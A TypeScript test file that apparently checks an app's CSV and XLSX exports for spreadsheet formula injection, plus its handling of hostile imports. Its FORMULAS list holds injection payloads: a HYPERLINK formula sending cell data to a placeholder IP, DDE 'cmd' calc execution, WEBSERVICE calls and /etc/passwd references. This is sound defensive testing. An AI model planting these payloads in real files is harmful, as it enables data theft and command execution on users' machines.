import { spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { inflateRawSync } from 'node:zlib'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { cleanText } from '../../src/core/plain/text.ts'
import { Client, id } from '../build/grove.ts'
import { together } from '../build/together.ts'
import type { GroveProcess } from '../build/process.ts'
import { startPlanted } from '../build/planted.ts'
import { freePort } from '../build/process.ts'
import { HOSTILE } from './sheets/hostile.ts'

const community = '/api/communities/rongbu'
const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', ' ', '\u3000', '＝', '＋', '－', '＠']
/**
 * What a spreadsheet would carry out: sums, links, programs, other files; bare, and after what might begin
 * another cell.
 */
const FORMULAS = [
  ...SIGNS.flatMap((sign) => [`${sign}1+1`, `${sign}=1+1`, `${sign}SUM(1,2)`]),
  '=HYPERLINK("http://192.0.2.1/?"&A1,"看")',
  "=cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  '=WEBSERVICE("http://192.0.2.1/")',
  "='file:///etc/passwd'#$passwd.A1",
  '=DDE("soffice","/etc/passwd","A1")',
  '{=1+1}',
  '路灯",=1+1,"',
  '路灯;=1+1;',
  '路灯\t=1+1',
  '路灯\n=1+1',
  '路灯";"=1+1',
  '路灯"\n"=1+1',
  "'=1+1",
  '""=1+1',
  '\u200B=1+1',
  '\u00A0=1+1',
  '=１＋１',
  '路灯;-1+1',
  '路灯; +1',
  '路灯;"@SUM(1)"',
]

let base: string
let grove: GroveProcess
let staff: Client
let code: string
/** Every export, by the name of its file. */
const exported = new Map<string, Buffer>()
/** By the number of a card, what was written on it. */
const written = new Map<string, string>()
const files: Record<string, string> = {
  'ledger.csv': `${community}/ledger.csv`,
  'desk.csv': `${community}/desk/ledger.csv`,
  'ledger.xlsx': `${community}/ledger.xlsx`,
  'desk.xlsx': `${community}/desk/ledger.xlsx`,
}

beforeAll(async () => {
  base = mkdtempSync(join(tmpdir(), 'grove-sheets-'))
  grove = await startPlanted(join(base, 'data'), await freePort())
  staff = new Client(grove.url)
  await staff.send('POST', /Administrator\s+https?:\/\/[^/]+(\S+)/.exec(grove.printed())![1]!)
  const made = await staff.post(`${community}/meetings`, {
    id: id(),
    theme: '=1+1',
    startsAt: 1_750_000_000_000,
    joining: 'anyone',
  })
  const { id: meeting } = made.body as { id: string }
  ;({ code } = made.body as { code: string })
  await staff.must(code, { kind: 'setStage', stage: 'open' })
  const phones = await together(
    FORMULAS.filter((_, n) => n % 20 === 0),
    4,
    async (formula) => {
      const phone = new Client(grove.url)
      const joined = await phone.post(`/api/meetings/${code}/participants`, { id: id(), key: id(), name: formula })
      expect({ formula, status: joined.status, said: joined.text.slice(0, 200) }).toMatchObject({ status: 200 })
      return phone
    },
  )
  const cards = new Map<string, string>()
  await together(FORMULAS, 8, async (formula, n) => {
    const phone = phones[Math.floor(n / 20)]!
    const card = await phone.card(code, formula, 'problem', { where: formula })
    await staff.must(code, { kind: 'openTopic', id: id(), tree: 'problem', name: formula, cards: [card] })
    await matterOf(formula, { meeting, card })
    cards.set(card, formula)
    if (n % 3 === 0) await staff.must(code, { kind: 'hideCard', card, reason: formula })
  })
  const { board } = await staff.board(code)
  for (const { id, number } of Object.values(board.cards)) written.set(String(number), cards.get(id)!)
  files['cards.csv'] = `/api/meetings/${code}/cards.csv`
  for (const [name, path] of Object.entries(files)) {
    const reply = await fetch(grove.url + path, {
      headers: { cookie: `grove_staff=${staff.cookies.get('grove_staff')}` },
    })
    expect({ name, status: reply.status }).toEqual({ name, status: 200 })
    exported.set(name, Buffer.from(await reply.arrayBuffer()))
  }
})
afterAll(async () => {
  grove?.child.kill('SIGTERM')
  await grove?.ended
  rmSync(base, { recursive: true, force: true })
})

/** A matter whose every field that people fill holds the formula. */
async function matterOf(formula: string, card: { meeting: string; card: string }): Promise<void> {
  let matter = id()
  const place = { words: formula }
  for (const command of [
    { kind: 'openMatter', title: formula, summary: formula, place, cards: [card] },
    { kind: 'triage', urgency: 3, importance: 2, reach: { people: 4 }, lane: 'quick', reason: formula },
  ]) {
    const path = `${community}/matters/${matter}/commands`
    const reply = await staff.post(path, command, { 'idempotency-key': id() })
    expect({ formula, status: reply.status, said: reply.text.slice(0, 200) }).toMatchObject({ formula, status: 200 })
    matter = (reply.body as { id?: string }).id ?? matter
  }
}

const csvs = () => [...exported].filter(([name]) => name.endsWith('.csv'))
const workbooks = () => [...exported].filter(([name]) => name.endsWith('.xlsx'))

/** The text of every file in a ZIP archive (APPNOTE 4.3). */
function unzipped(bytes: Buffer): Map<string, string> {
  const found = new Map<string, string>()
  const end = bytes.lastIndexOf(Buffer.from('PK\u0005\u0006'))
  let at = bytes.readUInt32LE(end + 16)
  for (let left = bytes.readUInt16LE(end + 10); left > 0; left--) {
    const [packed, name, extra, note] = [20, 28, 30, 32].map((field, i) =>
      i === 0 ? bytes.readUInt32LE(at + field) : bytes.readUInt16LE(at + field),
    ) as [number, number, number, number]
    const start = bytes.readUInt32LE(at + 42)
    const data = start + 30 + bytes.readUInt16LE(start + 26) + bytes.readUInt16LE(start + 28)
    const content = bytes.subarray(data, data + packed)
    const text = bytes.readUInt16LE(at + 10) === 8 ? inflateRawSync(content) : content
    found.set(bytes.toString('utf8', at + 46, at + 46 + name), text.toString())
    at += 46 + name + extra + note
  }
  return found
}

test('no cell of a CSV begins with a sign that makes a formula, whichever separator the reader’s program takes', () => {
  for (const [name, bytes] of csvs()) {
    const rows = parse(bytes, { bom: true }) as string[][]
    expect(rows.length, name).toBe(FORMULAS.length + 1)
    for (const delimiter of [[','], [';'], ['\t'], [',', ';', '\t']]) {
      const options = { bom: true, delimiter, relax_quotes: true, relax_column_count: true }
      const cells = (parse(bytes, options) as string[][]).flat()
      const begins = cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))
      expect(begins, `${name}, ${JSON.stringify(delimiter)}`).toEqual([])
    }
  }
})

test('no cell of a workbook is a formula, a link or a field that is carried out', () => {
  for (const [name, bytes] of workbooks()) {
    const parts = unzipped(bytes)
    const sheets = [...parts].filter(([part]) => part.startsWith('xl/worksheets/sheet'))
    expect(sheets.length, name).toBe(1)
    const [, sheet] = sheets[0]!
    expect(sheet.match(/<row /g)?.length, name).toBe(FORMULAS.length + 1)
    expect(sheet.match(/<f[ >/][^<]*|<hyperlink[^>]*/g), name).toBeNull()
    expect([...parts.keys()].filter((part) => /external|vba|connections|queryTables/i.test(part))).toEqual([])
  }
})

/** LibreOffice where it is installed; it says what it read in its own XML. */
const office = [
  '/usr/bin/soffice',
  '/usr/bin/libreoffice',
  '/usr/local/bin/soffice',
  '/opt/libreoffice/program/soffice',
  '/Applications/LibreOffice.app/Contents/MacOS/soffice',
].find(existsSync)

test('LibreOffice finds no formula in what Grove exports', (context) => {
  if (!office) {
    console.log('sheets: no LibreOffice on this machine, so it was not asked; the files’ own cells were')
    return context.skip()
  }
  const folder = join(base, 'office')
  mkdirSync(folder)
  const convert = (names: string[], filter: string[]) => {
    const args = [
      `-env:UserInstallation=file://${join(base, 'profile')}`,
      '--headless',
      ...filter,
      '--convert-to',
      'fods',
    ]
    const run = spawnSync(office, [...args, '--outdir', folder, ...names.map((name) => join(folder, name))], {
      timeout: 200_000,
    })
    expect(run.status, run.stderr?.toString()).toBe(0)
    return names.map((name) => ({ name, xml: readFileSync(join(folder, name.replace(/\.\w+$/, '.fods')), 'utf8') }))
  }
  for (const [name, bytes] of exported) writeFileSync(join(folder, name.replace('.', `-${name.slice(-3)}.`)), bytes)
  // So that a LibreOffice which never finds a formula is not taken for a proof.
  writeFileSync(join(folder, 'bare.csv'), 'n,text\n1,=1+1\n')
  const names = (list: [string, Buffer][]) => list.map(([name]) => name.replace('.', `-${name.slice(-3)}.`))
  // Comma, semicolon and tab (44/59/9) at once, as LibreOffice's own dialogue proposes; quotes 34; UTF-8 is
  // 76.
  const read = [
    ...convert([...names(csvs()), 'bare.csv'], ['--infilter=CSV:44/59/9,34,76,1']),
    ...convert(names(workbooks()), []),
  ]
  const formulas = (xml: string) => xml.match(/table:formula="[^"]*"/g) ?? []
  expect(formulas(read.find(({ name }) => name === 'bare.csv')!.xml)).toHaveLength(1)
  const ours = read.filter(({ name }) => name !== 'bare.csv')
  for (const { name, xml } of ours) expect(formulas(xml), name).toEqual([])
  const cells = ours.reduce(
    (sum, { xml }) => sum + (xml.match(/<table:table-cell[^>]*office:value-type/g)?.length ?? 0),
    0,
  )
  console.log(
    `sheets: LibreOffice read ${ours.length} exports of ${FORMULAS.length} formulas each, ${cells} cells: 0 formulas`,
  )
})

test('what was written is read back from the spreadsheet as it was, but for the sign that makes it text', () => {
  const rows = parse(exported.get('cards.csv')!, { bom: true, columns: true }) as Record<string, string>[]
  const plain = (text: string) => text.replaceAll("'", '')
  const standing = rows.filter(({ state }) => state === 'standing')
  expect(standing.length).toBeGreaterThan(FORMULAS.length / 2)
  for (const row of standing) {
    const cleaned = cleanText(written.get(row.number!)!, 500)
    expect(plain(row.text!)).toBe('text' in cleaned ? plain(cleaned.text) : '')
  }
})

/** The most memory in MB that Grove, or any process that reads a file for it, ever held. */
const peakOf = (pid: string | number) => {
  try {
    return Number(/VmHWM:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0) / 1024
  } catch {
    return 0
  }
}
/** The processes that read a file for Grove just now, as the kernel lists its children. */
const readers = () => {
  const { pid } = grove.child
  const children = readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').split(' ').filter(Boolean)
  return children.filter((child) => {
    try {
      return /sheetReader/.test(readFileSync(`/proc/${child}/cmdline`, 'latin1'))
    } catch {
      return false
    }
  })
}

const GROWTH_MOST_MB = 400
const READER_MOST_MB = 800

test(
  'hostile workbooks and CSV files: each is answered with a reason or read, memory is bounded, pages are served meanwhile',
  { timeout: 1_200_000 },
  async () => {
    const send = (body: Buffer | string) =>
      staff.send('POST', `${community}/ledger/import?name=x`, { body: new Uint8Array(Buffer.from(body as string)) })
    const seen = { reader: 0, atOnce: 0, pages: 0, slowest: 0, file: '', longest: 0 }
    const before = peakOf(grove.child.pid!)
    let [going, files] = [true, 0]
    const watching = (async () => {
      while (going) {
        const now = readers()
        seen.atOnce = Math.max(seen.atOnce, now.length)
        seen.reader = Math.max(seen.reader, ...now.map(peakOf))
        await new Promise((done) => setTimeout(done, 50))
      }
    })()
    const reading = (async () => {
      const visitor = new Client(grove.url)
      while (going) {
        const [begun, made] = [performance.now(), files]
        const page = await visitor.get('/c/rongbu')
        expect(page.status).toBe(200)
        seen.pages++
        // While this process makes a file it hears no answer.
        if (made === files) seen.slowest = Math.max(seen.slowest, performance.now() - begun)
        await new Promise((done) => setTimeout(done, 400))
      }
    })()
    const answers = new Map<string, number>()
    // What costs a reader much goes two or three ways for each of its limits: in the long form all.
    const asked = Object.entries(HOSTILE).filter((_, n) => process.env.GROVE_LONG || n % 2 === 0)
    for (const [name, make] of asked) {
      files++
      const file = make()
      await new Promise((done) => setTimeout(done, 50))
      files++
      const begun = performance.now()
      const reply = await send(file)
      expect({ name, status: reply.status }).toEqual({ name, status: reply.status === 200 ? 200 : 422 })
      const code = reply.status === 200 ? 'read' : (reply.problem as { code: string }).code
      answers.set(code, (answers.get(code) ?? 0) + 1)
      const ms = performance.now() - begun
      if (ms > seen.longest) Object.assign(seen, { longest: ms, file: name })
    }
    // A reader that does not start at all refuses everything, and would look safe.
    expect(answers.get('read') ?? 0).toBeGreaterThan(0)
    // Many at once: some wait, the others are told so before their bytes are kept.
    const file = process.env.GROVE_LONG ? HOSTILE['one long text in each row']!() : '名称,类别\n'.repeat(20_000)
    const flood = await Promise.all(Array.from({ length: 30 }, () => send(file)))
    for (const { status } of flood) expect([200, 422, 429]).toContain(status)
    const busy = flood.filter(({ status }) => status === 429).length
    expect(busy).toBeGreaterThan(0)
    going = false
    await Promise.all([watching, reading])
    expect(seen.atOnce).toBeLessThanOrEqual(1)
    expect(seen.reader).toBeLessThan(READER_MOST_MB)
    expect(peakOf(grove.child.pid!) - before).toBeLessThan(GROWTH_MOST_MB)
    expect(readers()).toEqual([])
    console.log(
      `sheets: ${answers.size} kinds of answer to ${asked.length} hostile files ${JSON.stringify(Object.fromEntries(answers))}; ` +
        `Grove ${before.toFixed(0)} → at most ${peakOf(grove.child.pid!).toFixed(0)} MB, a reading process at most ${seen.reader.toFixed(0)} MB; ` +
        `the longest ${seen.longest.toFixed(0)} ms (${seen.file}); of 30 at once ${busy} told to wait; ` +
        `${seen.pages} pages meanwhile, the slowest in ${seen.slowest.toFixed(0)} ms`,
    )
  },
)
